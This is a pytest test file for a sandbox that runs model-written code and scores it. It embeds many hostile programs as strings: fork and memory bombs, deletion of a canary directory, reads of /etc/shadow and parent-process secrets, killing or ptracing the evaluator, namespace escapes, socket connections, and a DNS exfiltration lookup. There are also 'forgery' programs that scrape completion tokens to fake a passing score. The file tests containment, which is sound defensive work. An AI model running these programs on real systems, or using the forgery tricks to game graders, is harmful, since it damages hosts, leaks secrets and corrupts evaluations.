"""The code-execution sandbox: hostile model-written programs are contained and scored as failures.

All hostile programs run once, together, through ``run_many`` (module-scoped fixture) with small
limits so the file stays fast; the individual tests then check scoring and containment.
"""

from __future__ import annotations

import os
import re
import secrets
import signal
import socket
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from slmkit.errors import SlmkitError
from slmkit.sandbox import check_program, procs, run_checked, run_many, run_program
from slmkit.sandbox import runner as sandbox
from slmkit.sandbox.capture import Capture

LIMITS = dict(memory_mb=256, max_procs=16, max_file_mb=4, max_output_bytes=4096)
TIMEOUT = 2.0
IS_ROOT = os.geteuid() == 0
TIMEOUTISH = {"timeout", "killed"}


CLONE_NR = 220 if os.uname().machine == "aarch64" else 56

# Shared tail of the forging attempts: whatever looks like a token goes to stdout and to every fd
# (the report pipe among them), then an early exit 0.
EXFIL = (
    "def _exfil(texts):\n"
    "    import os, re\n"
    "    found = sorted({m for t in texts for m in re.findall('[0-9a-f]{32,}', t if isinstance(t, str) else t.decode('latin-1'))})\n"
    "    print('candidates:', found)\n"
    "    for fd in range(3, 64):\n"
    "        for c in found + ['passed', 'ok']:\n"
    "            try:\n"
    "                os.write(fd, c.encode())\n"
    "            except OSError:\n"
    "                pass\n"
    "    os._exit(0)\n"
)


def _forgeries() -> dict[str, tuple[str, set[str]]]:
    """Programs that try to be scored "passed" without running to their end; none knows the protocol."""
    return {
        "forge_from_code_objects": (
            EXFIL + "import sys\ntexts = []\nf = sys._getframe()\nwhile f is not None:\n"
            "    texts += [c for c in f.f_code.co_consts if isinstance(c, (str, bytes))]\n"
            "    texts += [repr(v) for v in list(f.f_locals.values()) + list(f.f_globals.values())]\n"
            "    f = f.f_back\n_exfil(texts)\n", {"failed"}),
        "forge_from_linecache": (EXFIL + "import linecache\n_exfil([''.join(v[2]) for v in linecache.cache.values()])\n",
                                 {"failed"}),
        "forge_from_argv_cmdline_environ": (
            EXFIL + "import os, sys\ntexts = [repr(sys.argv), repr(getattr(sys, 'orig_argv', '')), repr(dict(os.environ))]\n"
            "for p in ('/proc/self/cmdline', '/proc/self/environ', f'/proc/{os.getppid()}/cmdline',"
            " f'/proc/{os.getppid()}/environ'):\n"
            "    try:\n        texts.append(open(p, 'rb').read())\n    except OSError:\n        pass\n_exfil(texts)\n",
            {"failed"}),
        "forge_from_files": (
            EXFIL + "import glob, os\ntexts = []\nfor d, _, names in os.walk(os.getcwd()):\n"
            "    texts += [open(os.path.join(d, n), 'rb').read(1 << 20) for n in names]\n"
            "for p in glob.glob('/tmp/*') + glob.glob(os.environ.get('HOME', '.') + '/*') + [__file__, 'program.py']:\n"
            "    try:\n        texts.append(open(p, 'rb').read(1 << 16))\n    except OSError:\n        pass\n"
            "_exfil(texts)\n", {"failed"}),
        "forge_from_gc_objects": (
            EXFIL + "import gc\ntexts = []\nfor o in gc.get_objects():\n    if isinstance(o, dict):\n"
            "        texts += [v for v in o.values() if isinstance(v, (str, bytes))]\n"
            "    elif isinstance(o, (list, tuple)):\n        texts += [v for v in o if isinstance(v, (str, bytes))]\n"
            "_exfil(texts)\n", {"failed"}),
        "forge_by_patching_exit_paths": (
            "import builtins, os, sys\nsys.exit = os._exit = builtins.exit = lambda *a: None\n"
            "os.write = lambda fd, data: len(data)\nos.read = lambda fd, n: b'0' * 48\nraise SystemExit(0)\n", {"failed"}),
        "forge_in_atexit": ("import atexit\natexit.register(print, 'all tests passed')\nraise SystemExit(0)\n", {"failed"}),
        "forge_by_exec_of_clean_python": (
            "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(1)'])\n", {"failed"}),
        "forge_by_forking_away": ("import os\nif os.fork():\n    os._exit(0)\nassert False, 'tests fail in the child'\n",
                                  {"failed"}),
        "forge_by_signal_handler": (
            "import os, signal, time\nsignal.signal(signal.SIGUSR1, lambda *a: os._exit(0))\n"
            "os.kill(os.getpid(), signal.SIGUSR1)\ntime.sleep(5)\n", {"failed"}),
        "forge_by_thread_exit": (
            "import os, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.2), os._exit(0))).start()\n"
            "time.sleep(10)\nassert False\n", {"failed"}),
        "forge_old_style_token": (
            "import secrets, sys\nprint('slmkit-tests-completed-' + secrets.token_hex(16), flush=True)\nsys.exit(0)\n",
            {"failed"}),
        "forge_generic_fd_echo": (
            "import os\ndata = b''\nfor fd in range(3, 64):\n    try:\n        os.set_blocking(fd, False)\n"
            "        data += os.read(fd, 4096)\n    except OSError:\n        pass\nfor fd in range(3, 64):\n"
            "    try:\n        os.write(fd, data)\n    except OSError:\n        pass\nos._exit(0)\n", {"failed"}),
        "forge_junk_report_then_finish": (  # runs to its end, but the report it leaves is not the prelude's alone
            "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'passed\\n')\n"
            "    except OSError:\n        pass\n", {"failed"}),
    }


def _sandbox_fds() -> list[str]:
    """This process's open pipes, pidfds and files under sandbox folders: what a run could leak. (Other fds come
    and go with threads earlier tests left behind, e.g. a server's event loop, and are not the sandbox's.)"""
    out = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:") or target == "anon_inode:[pidfd]" or "slmkit-sbx" in target:
            out.append(target)
    return sorted(out)


def _hostile_programs(canary: Path, outside: Path, in_repo: Path, tmp_escape: str, tcp_port: int,
                      udp_port: int, abstract_name: str = "x") -> dict[str, tuple[str, set[str]]]:
    """name -> (source, acceptable failure statuses). Each ends in a state that passes only on escape."""
    return {**_forgeries(), **{
        "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", TIMEOUTISH),
        "subprocess_bomb": (
            "import subprocess, sys\nkids = []\nwhile True:\n    try:\n"
            "        kids.append(subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)']))\n"
            "    except Exception:\n        pass\n", TIMEOUTISH),
        "infinite_loop": ("while True:\n    pass\n", TIMEOUTISH),
        "sleep_forever": ("import time\ntime.sleep(10 ** 6)\n", {"timeout"}),
        "memory_hog": ("buf = bytearray()\nwhile True:\n    buf += bytearray(16 << 20)\n", {"failed", "killed"}),
        "huge_list": ("x = [0] * (10 ** 10)\n", {"failed", "killed"}),
        "pickle_huge_object": ("import pickle\nblob = pickle.dumps(bytearray(200 << 20))\n", {"failed", "killed"}),
        "recursion_bomb": ("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n",
                           {"failed", "killed", "timeout"}),
        "thread_bomb": ("import threading, time\nwhile True:\n"
                        "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n",
                        {"failed", "killed"}),
        "many_open_files": ("files = [open('/dev/null') for _ in range(10 ** 6)]\n", {"failed"}),
        "rmtree_canary": (f"import shutil\nshutil.rmtree({str(canary)!r})\n", {"failed"}),
        "rm_rf_canary": (f"import os, subprocess\nsubprocess.run(['rm', '-rf', {str(canary)!r}], check=True)\n"
                         f"assert os.listdir({str(canary.parent)!r}) == []\n", {"failed"}),
        "write_outside": (f"with open({str(outside)!r}, 'w') as f:\n    f.write('pwned')\n", {"failed"}),
        "write_into_evaluator_package": (f"with open({str(in_repo)!r}, 'w') as f:\n    f.write('pwned')\n", {"failed"}),
        "write_tmp_outside_workdir": (
            f"p = {tmp_escape!r}\nwith open(p, 'w') as f:\n    f.write('pwned')\n"
            "assert open('/proc/1/root' + p).read() == 'pwned'\n", {"failed"}),
        "fill_tmp": ("import os\nfor i in range(64):\n    with open(f'/tmp/fill-{i}', 'wb') as f:\n"
                     "        f.write(b'0' * (1 << 20))\nassert os.path.exists('/proc/1/root/tmp/fill-0')\n",
                     {"failed", "timeout"}),
        "huge_file_write": ("with open('big.bin', 'wb') as f:\n    while True:\n        f.write(b'0' * (1 << 20))\n",
                            {"failed", "killed"}),
        "huge_stdout": ("import sys\nchunk = 'x' * 65536\nwhile True:\n    sys.stdout.write(chunk)\n", TIMEOUTISH),
        "tcp_connect": (f"import socket\ns = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1)\n"
                        "s.sendall(b'pwned')\n", {"failed"}),
        "raw_socket_reimport": (
            "import sys\nsys.modules.pop('_socket', None)\nsys.modules.pop('socket', None)\nimport _socket\n"
            f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {tcp_port}))\n"
            "s.send(b'pwned')\n", {"failed"}),
        "ctypes_socket_connect": (
            "import ctypes, socket, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(2, 1, 0)\n"
            "assert fd >= 0, ('socket', ctypes.get_errno())\n"
            f"addr = struct.pack('=H', 2) + struct.pack('!H', {tcp_port}) + socket.inet_aton('127.0.0.1') + bytes(8)\n"
            "assert libc.connect(fd, addr, 16) == 0, ('connect', ctypes.get_errno())\n", {"failed"}),
        "udp_send": (f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pwned', ('127.0.0.1', {udp_port}))\n",
                     {"failed"}),
        "listen_server": ("import socket\nsocket.create_server(('0.0.0.0', 8080))\n", {"failed"}),
        "dns_exfiltration": ("import socket\nsocket.getaddrinfo('c2VjcmV0.exfil.example.com', 53)\n", {"failed"}),
        "kill_parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", {"failed"}),
        "killpg_parent_group": ("import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n", {"failed"}),
        "ctypes_kill_parent": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                               "assert libc.kill(os.getppid(), 9) == 0, ctypes.get_errno()\n", {"failed"}),
        "ctypes_kill_everything": ("import ctypes, os\nppid = os.getppid()\nctypes.CDLL(None).kill(-1, 9)\n"
                                   "assert not os.path.exists(f'/proc/{ppid}'), 'evaluator survived'\n", {"failed"}),
        "ptrace_parent": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "assert libc.ptrace(16, os.getppid(), 0, 0) == 0, ctypes.get_errno()\n", {"failed"}),
        "env_secret": ("import os\nprint(dict(os.environ))\nassert 'SLMKIT_SECRET' in os.environ\n", {"failed"}),
        "parent_environ": ("import os\ndata = open(f'/proc/{os.getppid()}/environ', 'rb').read()\nprint(data)\n"
                           "assert b'SLMKIT_SECRET' in data\n", {"failed"}),
        "read_etc_shadow": ("print(open('/etc/shadow').read())\n", {"failed"}),
        "list_root_home": ("import os\nprint(os.listdir('/root'))\n", {"failed"}),
        "setuid_root": ("import os\nos.setuid(0)\n", {"failed"}),
        "setsid_escape": (
            "import ctypes, os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # not dumpable: /proc shows it as root's\n"
            "        time.sleep(600)\n    os._exit(0)\ntime.sleep(0.2)\nraise SystemExit(3)\n", {"failed"}),
        "os_exit_zero_early": ("import os\nos._exit(0)\n", {"failed"}),
        "sys_exit_zero_early": ("import sys\nsys.exit(0)\n", {"failed"}),
        "sabotage_print": ("import builtins, os\nbuiltins.print = lambda *a, **k: None\nos._exit(0)\n", {"failed"}),
        "dup2_report_fd_to_devnull": (
            "import os\nnull = os.open(os.devnull, os.O_WRONLY)\nfor fd in range(3, 64):\n    if fd != null:\n"
            "        try:\n            os.dup2(null, fd)\n        except OSError:\n            pass\n"
            "raise SystemExit(0)\n", {"failed"}),
        "close_stdio_and_channels": ("import os\nos.closerange(1, 256)\nos._exit(0)\n", {"failed"}),
        "ctypes_segfault": ("import ctypes\nctypes.string_at(0)\n", {"killed"}),
        "signal_games": (
            "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):\n"
            "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(1)\nwhile True:\n    pass\n", TIMEOUTISH),
        "chmod_tempdir_and_root": ("import os\nos.chmod('.', 0)\nos.chmod('/', 0o777)\n", {"failed"}),
        # 0-2 stdio, 4-5 the completion pipes, and the fd of this listdir itself: anything more leaked in
        "inherited_fds": ("import os\nfds = os.listdir('/proc/self/fd')\nassert len(fds) > 6, fds\n", {"failed"}),
        "io_uring_setup": (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nparams = ctypes.create_string_buffer(120)\n"
            "fd = libc.syscall(425, 8, params)\nassert fd >= 0, ('io_uring_setup', ctypes.get_errno())\n", {"failed"}),
        "unshare_user_namespace": (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "assert libc.unshare(0x10000000) == 0, ('unshare', ctypes.get_errno())\n"
            "assert libc.unshare(0x40000000 | 0x20000) == 0, ('unshare net+mnt as ns root', ctypes.get_errno())\n",
            {"failed"}),
        "clone_new_user_namespace": (
            f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"pid = libc.syscall({CLONE_NR}, 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0:\n    os._exit(0)\n"
            "assert pid > 0, ('clone(CLONE_NEWUSER)', ctypes.get_errno())\nos.waitpid(pid, 0)\n", {"failed"}),
        "clone3_new_user_namespace": (
            "import ctypes, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "args = ctypes.create_string_buffer(struct.pack('=11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)\n"
            "pid = libc.syscall(435, args, 88)\nif pid == 0:\n    os._exit(0)\n"
            "assert pid > 0, ('clone3(CLONE_NEWUSER)', ctypes.get_errno())\n", {"failed"}),
        "unshare_command": ("import subprocess\nsubprocess.run(['unshare', '--user', '--map-root-user', 'true'], check=True)\n",
                            {"failed"}),
        "abstract_unix_connect": (
            "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(1, 1, 0)\n"
            "assert fd >= 0, ('socket', ctypes.get_errno())\n"
            f"name = b'\\0' + {abstract_name.encode()!r}\naddr = struct.pack('=H', 1) + name\n"
            "assert libc.connect(fd, addr, len(addr)) == 0, ('connect', ctypes.get_errno())\n"
            "assert libc.send(fd, b'pwned', 5, 0) == 5\n", {"failed"}),
        "symlink_traps_for_cleanup": (  # the evaluator's cleanup must unlink these, never follow them
            "import os\ncwd = os.getcwd()\n"
            f"os.symlink({str(canary)!r}, 'dir_link')\nos.symlink({str(canary / 'keep.txt')!r}, 'file_link')\n"
            f"os.symlink({str(outside.parent)!r}, 'parent_link')\nos.symlink('/', 'root_link')\n"
            f"os.makedirs('deep/er')\nos.symlink({str(canary)!r}, 'deep/er/link')\n"
            "for d in ('/tmp', '/var/tmp', '/dev/shm'):\n    try:\n"
            f"        os.symlink({str(canary)!r}, os.path.join(d, f'slmkit-trap-{{os.getpid()}}'))\n"
            "    except OSError:\n        pass\n"
            "try:  # swap our own dir for a link to the canary (the parent must not let us)\n"
            f"    os.rename(cwd, cwd + '-moved')\n    os.symlink({str(canary)!r}, cwd)\nexcept OSError:\n    pass\n"
            "os._exit(0)  # the damage would happen after the run: test_filesystem_damage_contained looks\n",
            {"failed"}),
    }}


def _uid_procs(uid: int) -> list[int]:
    return procs.find(uid=uid)


@pytest.fixture(scope="module", params=["namespaces", "no_namespaces"])
def hostile(request, tmp_path_factory):
    """Whole batch, twice: with namespaces, and without (only uid drop, seccomp, rlimits, sweeps)."""
    base = tmp_path_factory.mktemp("hostile")
    canary = base / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("alive")
    outside = base / "outside.txt"
    in_repo = Path(sandbox.__file__).with_name(f"pwned_{secrets.token_hex(4)}.py")
    tmp_escape = os.path.join(tempfile.gettempdir(), f"slmkit-escape-{secrets.token_hex(6)}")
    secret = "s3cr3t-" + secrets.token_hex(8)

    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract_name = f"slmkit-test-{secrets.token_hex(6)}"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + abstract_name)
    unix.listen()
    programs = _hostile_programs(canary, outside, in_repo, tmp_escape, tcp.getsockname()[1], udp.getsockname()[1],
                                 abstract_name)
    sbx_dirs_before = set(Path(tempfile.gettempdir()).glob("slmkit-sbx-*"))
    fds_before = _sandbox_fds()

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SLMKIT_SECRET", secret)
        mp.setattr(sandbox, "_USE_NAMESPACES", request.param == "namespaces")
        tokens = []
        mp.setattr(sandbox, "_new_token", lambda real=sandbox._new_token: tokens.append(real()) or tokens[-1])
        start = time.monotonic()
        results = run_many([src for src, _ in programs.values()], workers=2, timeout=TIMEOUT, check=True, **LIMITS)
        elapsed = time.monotonic() - start

    fds_after = _sandbox_fds()
    tcp.setblocking(False)
    udp.setblocking(False)
    accepted, received = [], []
    try:
        accepted.append(tcp.accept())
    except BlockingIOError:
        pass
    try:
        received.append(udp.recvfrom(4096))
    except BlockingIOError:
        pass
    unix.setblocking(False)
    try:
        accepted.append(unix.accept())
    except BlockingIOError:
        pass
    tcp.close()
    udp.close()
    unix.close()
    print(f"\n{len(programs)} hostile programs ({request.param}) in {elapsed:.1f}s")
    yield SimpleNamespace(
        mode=request.param, programs=programs, results=dict(zip(programs, results)), elapsed=elapsed, canary=canary,
        outside=outside, in_repo=in_repo, tmp_escape=tmp_escape, secret=secret, accepted=accepted,
        received=received, sbx_dirs_before=sbx_dirs_before, fds=(fds_before, fds_after), tokens=tokens,
    )
    for path in (in_repo, Path(tmp_escape)):  # only present if the sandbox failed
        if path.exists():
            path.unlink()


def test_there_are_at_least_25_hostile_programs(hostile):
    assert len(hostile.programs) >= 25
    assert len(hostile.results) == len(hostile.programs)
    assert len(set(hostile.tokens)) == len(hostile.programs), "every checked run gets its own completion token"


@pytest.mark.parametrize("name", sorted(_hostile_programs(Path("/c/x"), Path("/o"), Path("/r"), "/t", 1, 2)))
def test_hostile_program_is_scored_as_failure(hostile, name):
    r = hostile.results[name]
    _, allowed = hostile.programs[name]
    assert not r.passed, (name, r)
    assert r.status in allowed, (name, r.status, r.detail, r.stderr[-2000:])


def test_filesystem_damage_contained(hostile):
    assert (hostile.canary / "keep.txt").read_text() == "alive"
    assert sorted(p.name for p in hostile.canary.iterdir()) == ["keep.txt"]
    assert hostile.outside.parent.is_dir() and (hostile.outside.parent / "canary").is_dir()
    assert not hostile.outside.exists()
    assert not hostile.in_repo.exists()
    assert not os.path.exists(hostile.tmp_escape)


def test_no_network_traffic_arrived(hostile):
    assert hostile.accepted == [], "a sandboxed program reached the evaluator's TCP or abstract AF_UNIX listener"
    assert hostile.received == [], "a sandboxed program reached the evaluator's UDP socket"
    for name in ("tcp_connect", "raw_socket_reimport", "ctypes_socket_connect", "udp_send", "dns_exfiltration"):
        assert "PermissionError" in hostile.results[name].stderr or "AssertionError" in hostile.results[name].stderr


def test_evaluator_survived_signals(hostile):
    os.kill(os.getpid(), 0)
    os.killpg(os.getpgrp(), 0)
    assert hostile.results["kill_parent"].status == "failed"


def test_secrets_not_leaked(hostile):
    for name, r in hostile.results.items():
        assert hostile.secret not in r.stdout + r.stderr, name
        for token in hostile.tokens:  # the forging programs printed every token-like string they found
            assert token not in r.stdout + r.stderr, name
            assert sandbox.completion_report(token.encode()).decode() not in r.stdout + r.stderr, name
    assert "root:" not in hostile.results["read_etc_shadow"].stdout
    env_out = hostile.results["env_secret"].stdout
    assert "PATH" in env_out and "SLMKIT" not in env_out


def test_output_capture_is_bounded(hostile):
    for r in hostile.results.values():
        assert len(r.stdout) <= 2 * LIMITS["max_output_bytes"] + 200
        assert len(r.stderr) <= 2 * LIMITS["max_output_bytes"] + 200
    assert "bytes dropped" in hostile.results["huge_stdout"].stdout


@pytest.mark.skipif(not IS_ROOT, reason="processes are tracked by a dedicated uid only when the evaluator is root")
def test_no_sandbox_process_or_file_left(hostile):
    uids = {r.uid for r in hostile.results.values()}
    assert None not in uids
    for uid in uids:
        assert _uid_procs(uid) == [], f"uid {uid} still has processes"
        for d in procs.SHARED_WRITABLE:
            if os.path.isdir(d):
                left = [e.path for e in os.scandir(d) if e.stat(follow_symlinks=False).st_uid == uid]
                assert left == [], left


def test_temp_dirs_removed_and_no_fd_leak(hostile):
    assert set(Path(tempfile.gettempdir()).glob("slmkit-sbx-*")) <= hostile.sbx_dirs_before
    assert hostile.fds[0] == hostile.fds[1]


def test_isolation_report(hostile):
    iso = hostile.results["infinite_loop"].isolation
    print("isolation:", iso)
    if IS_ROOT:
        assert iso["uid_drop"] is True
    if hostile.mode == "no_namespaces":
        assert not (iso["net"] or iso["mnt"] or iso["ipc"])
    # the network wall must hold one way or another: namespace or seccomp
    assert iso.get("net") or iso.get("seccomp")


def test_benign_programs_still_pass_after_the_hostile_batch(hostile):
    assert check_program("def add(a, b):\n    return a + b\n\nassert add(2, 3) == 5\n", timeout=5)
    assert not check_program("def add(a, b):\n    return a - b\n\nassert add(2, 3) == 5\n", timeout=5)
    r = run_program("print('hello')", timeout=5)
    assert r.passed and r.status == "passed" and r.stdout == "hello\n" and r.returncode == 0


def test_ordinary_stdlib_features_work():
    """Walls must not break what benchmark solutions legitimately use."""
    src = (
        "import os, sys, tempfile, threading, subprocess, socket, collections, math, re, json\n"
        "with open('scratch.txt', 'w') as f:\n    f.write('ok')\n"
        "with tempfile.TemporaryDirectory() as d:\n    open(os.path.join(d, 'x'), 'w').write('x')\n"
        "t = threading.Thread(target=lambda: None)\nt.start()\nt.join()\n"
        "out = subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True).stdout\n"
        "assert out.strip() == '42', out\n"
        "a, b = socket.socketpair()\na.sendall(b'hi')\nassert b.recv(2) == b'hi'\n"
        "class Point(collections.namedtuple('P', 'x y')):\n    pass\n"
        "import pickle\nassert pickle.loads(pickle.dumps(Point(1, 2))) == Point(1, 2)\n"
    )
    r = run_checked(src, timeout=10, **LIMITS)
    assert r.passed, (r.status, r.detail, r.stderr)


def test_total_memory_watchdog_catches_fork_and_allocate():
    """RLIMIT_AS is per process; the evaluator also caps the sum over the run's processes."""
    src = ("import os, time\nfor _ in range(4):\n    if os.fork() == 0:\n        x = b'x' * (120 << 20)\n"
           "        time.sleep(30)\ntime.sleep(30)\n")
    r = run_program(src, timeout=5, memory_mb=256, max_procs=16)
    assert r.status == "killed" and "memory" in r.detail and r.wall_s < 4, (r.status, r.detail, r.stderr)


@pytest.mark.skipif(not IS_ROOT, reason="leftovers are attributed by the dedicated uid only when root")
@pytest.mark.parametrize("namespaces", [True, False])
def test_sysv_shared_memory_does_not_outlive_the_run(monkeypatch, namespaces):
    """SysV segments survive their creator; a private IPC namespace or the uid sweep must drop them."""
    monkeypatch.setattr(sandbox, "_USE_NAMESPACES", namespaces)
    src = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "assert libc.shmget(0, 8 << 20, 0o1000 | 0o600) >= 0, ctypes.get_errno()\n")
    r = run_program(src, timeout=5, **LIMITS)
    assert r.passed, r.stderr
    with open("/proc/sysvipc/shm") as f:
        rows = [line.split() for line in f.read().splitlines()[1:]]
    assert not [row for row in rows if int(row[7]) == r.uid]


def test_network_namespace_has_no_interfaces_up():
    r = run_program("print(open('/proc/self/net/dev').read())", timeout=5)
    assert r.passed, r.stderr
    if not r.isolation.get("net"):
        pytest.skip("the OS refused a network namespace here (seccomp still blocks socket())")
    names = [line.split(":")[0].strip() for line in r.stdout.splitlines()[2:] if ":" in line]
    assert names == ["lo"]


def test_tracebacks_show_program_lines():
    r = run_program("def f():\n    raise ValueError('boom')\nf()\n", timeout=5)
    assert r.status == "failed" and r.returncode == 1
    assert "ValueError: boom" in r.stderr and "raise ValueError('boom')" in r.stderr


def test_run_many_keeps_order_and_handles_empty():
    assert run_many([]) == []
    rs = run_many(["print(1)", "raise SystemExit(4)", "print(3)"], workers=2, timeout=5)
    assert [r.status for r in rs] == ["passed", "failed", "passed"]
    assert rs[1].returncode == 4 and rs[2].stdout == "3\n"


def test_cpu_limit_kills_busy_loop():
    r = run_program("while True:\n    pass\n", timeout=5, cpu_seconds=1)
    assert r.status == "killed" and "CPU" in r.detail and r.wall_s < 4


def test_bad_arguments_are_one_line_errors():
    with pytest.raises(SlmkitError, match="timeout"):
        run_program("pass", timeout=0)
    with pytest.raises(SlmkitError, match="memory_mb"):
        run_program("pass", memory_mb=8)
    with pytest.raises(SlmkitError, match="workers"):
        run_many(["pass"], workers=0)


def test_capture_keeps_head_and_tail():
    cap = Capture(200)
    for i in range(1000):
        cap.add(f"{i:05d}\n".encode())
    text = cap.text()
    assert text.startswith("00000\n") and text.endswith("00999\n")
    assert "bytes dropped" in text and len(text) < 300
    assert re.search(r"\[\.\.\. (\d+) bytes dropped", text).group(1) == str(cap.total - 200)


def test_signal_enum_names_are_reported():
    r = run_program("import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n", timeout=5)
    assert r.status == "killed" and "SIGTERM" in r.detail and r.returncode == -signal.SIGTERM

